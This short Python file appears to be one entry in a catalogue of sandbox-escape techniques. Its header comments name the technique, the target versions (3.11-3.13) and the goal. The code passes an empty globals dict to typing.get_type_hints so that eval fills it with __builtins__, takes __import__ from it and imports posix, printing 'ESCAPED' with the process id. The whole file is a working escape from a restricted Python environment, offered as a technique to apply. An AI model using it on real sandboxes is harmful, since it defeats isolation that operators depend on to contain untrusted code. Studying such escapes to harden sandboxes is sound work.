# technique: empty globals of ours come back with the builtins of typing
# python: 3.11-3.13
# goal: builtins
# source: own analysis: the default builtins of eval
import typing


class X:
    a: 'int'


g = {}
typing.get_type_hints(X, g, {})
get = g['__builtins__']['__import__']
print('ESCAPED pid=%d' % get('posix').getpid())
